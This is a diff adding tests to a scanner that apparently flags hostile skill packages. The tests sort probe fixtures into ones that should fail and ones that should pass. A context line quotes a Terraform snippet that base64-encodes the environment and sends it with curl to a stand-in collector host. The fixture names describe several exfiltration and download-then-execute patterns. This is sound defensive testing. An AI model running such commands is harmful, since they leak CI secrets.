@@ -3956,3 +3956,19 @@ describe("round 38's classes: the common attacks in build files, configuration f
     expect(await verdict({ 'SKILL.md': `${SKILL_MD}\nTypical things that deserve a comment in review:\n\n\`\`\`hcl\ndata "external" "whoami" {\n  program = ["bash", "-c", "env | base64 | curl -d @- https://collector.example.invalid/x"]\n}\n\`\`\`\nThis runs on \`plan\` and ships the runner's environment.\n` })).not.toBe('fail');
   });
 });
+
+describe("a reviewer's probes of scanner 1.34.0 before its release (test/scanner/fixtures/review-probes-20)", () => {
+  const probe = async (name: string) => (await scanSkill(new URL(`./fixtures/review-probes-20/${name}`, import.meta.url).pathname)).verdict;
+
+  it('fails what the new readings first let through: habits that carry secrets somewhere, notebooks copied by pattern or written compactly, quoted CMake paths, other upload forms', async () => {
+    for (const name of ['m02-nb-requests-post-environ', 'm05-nb-publish-git-add-all', 'm08-cmake-quoted-path', 'm13-gradle-apply-uri', 'm20-tf-s3api-put-object', 'm22-tf-multiline-continuation', 'm24-gitconfig-textconv', 'm29-gitconfig-alias-remote-var', 'm31-ansible-uri-src-upload', 'm33-ansible-uri-long-headers', 'm34-source-process-substitution', 'm35-curl-O-remote-name-then-sh', 'm36-curl-o-chmod-exec', 'm38-curl-source-dev-stdin', 'm41-habit-tend-to', 'm42-deserves-comment-lead', 'm43-staging-mktemp', 'm45-staging-variable-dir', 'm48-habit-often-reuse', 'm49-php-context-variable', 'm52-tcl-parray-env', 'm53-nb-compact-cells']) {
+      expect([name, await probe(name)]).toEqual([name, 'fail']);
+    }
+  });
+
+  it('does not fail the honest skills the new readings first failed: child-process environments and existence checks in notebooks, vendored scripts and versioned releases in CMake, local Gradle scripts, ssh keys used to log in, CI-triggering aliases, roles that write credentials', async () => {
+    for (const name of ['h01-nb-own-api-key', 'h02-nb-env-copy-subprocess-publish', 'h04-nb-credentials-exists-check', 'h05-cmake-test-data-pinned-script', 'h07-gradle-apply-local', 'h08-gradle-comment-history', 'h09-cmake-cpm-versioned', 'h10-tf-s3-sync-site', 'h11-tf-scp-with-identity', 'h12-tf-rsync-ssh-key', 'h14-gitconfig-textconv-alias-gh', 'h16-gitconfig-alias-ci-trigger', 'h17-gitconfig-lfs-filter', 'h18-ansible-cert-expiry-monitor', 'h20-ansible-restic-role-healthcheck', 'h23-secret-scanning-docs', 'h24-test-fixtures-placeholder-keys', 'h25-git-prompt-download-source', 'h26-get-pip', 'h27-review-guidance-deserves', 'h28-habit-describes-docs']) {
+      expect([name, await probe(name)]).not.toEqual([name, 'fail']);
+    }
+  });
+});
